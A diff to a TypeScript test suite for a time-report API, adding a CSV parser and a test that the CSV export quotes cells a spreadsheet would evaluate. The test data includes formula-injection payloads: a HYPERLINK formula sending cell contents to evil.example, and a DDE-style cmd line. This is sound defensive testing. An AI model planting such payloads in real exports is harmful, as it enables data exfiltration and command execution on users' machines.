@@ -95,6 +95,31 @@ async function knownWeek(options: { name?: string; at?: (local: string) => void 
 
 const get = (key: string, url: string) => t.request({ method: 'GET', url, key });
 
+/** The cells of an RFC 4180 CSV (quoted fields may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const char = text[i]!;
+    if (quoted) {
+      if (char !== '"') cell += char;
+      else if (text[i + 1] === '"') cell += text[++i];
+      else quoted = false;
+    } else if (char === '"') quoted = true;
+    else if (char === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (char === '\n') {
+      rows.push([...row, cell]);
+      row = [];
+      cell = '';
+    } else cell += char;
+  }
+  return rows;
+}
+
 describe('GET /v1/reports/period', () => {
   it('200 gives the exact minutes of the known week', async () => {
     const { key, office, night } = await knownWeek();
@@ -245,6 +270,32 @@ describe('GET /v1/reports/period', () => {
       `${office.id},Ana Conceição,52998224725,2026-11-17,tue,08:00-12:00 13:00-17:00,08:00E 12:00S 13:00E 17:00SI,480,480,0,0,0,0,60,`,
     );
     expect(lines[6]).toBe(`${office.id},Ana Conceição,52998224725,TOTAL,,,,2400,2505,0,120,12,0,303,`);
+  });
+
+  it('CSV: a text cell a spreadsheet would evaluate starts with a quote; numbers stay numbers', async () => {
+    const tenant = await t.seedTenant();
+    const { key } = await tenant.key();
+    const names = [
+      '=HYPERLINK("https://evil.example/?d="&A1,"Clique")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1,1)',
+      // Names are trimmed on the way in, so a leading tab or line break cannot reach the file (test/unit/csv).
+      ' \t=1+1',
+    ];
+    for (const name of names) await t.hire(key, { name, schedule: { mon: OFFICE } });
+    const response = await get(key, '/v1/reports/period?from=2026-11-16&to=2026-11-17&format=csv');
+    expect(response.statusCode).toBe(200);
+    const [header, ...rows] = parseCsv(response.body);
+    expect(header![0]).toBe('employee_id');
+    expect(rows).toHaveLength(names.length * 3);
+    expect(new Set(rows.map((row) => row[1]))).toEqual(new Set(names.map((name) => `'${name.trim()}`)));
+    for (const cell of rows.flat()) {
+      // Only a number may start with a sign: the minutes columns, written as numbers.
+      if (/^[=+\-@\t\r\n]/.test(cell)) expect(cell).toMatch(/^-\d+$/);
+    }
+    const total = rows.find((row) => row[3] === 'TOTAL')!;
+    expect(total.slice(7, 14)).toEqual(['480', '0', '0', '0', '0', '480', '0']);
   });
 
   it('400 for a reversed range, a range over 366 days and bad dates; 404 for another tenant’s employee', async () => {
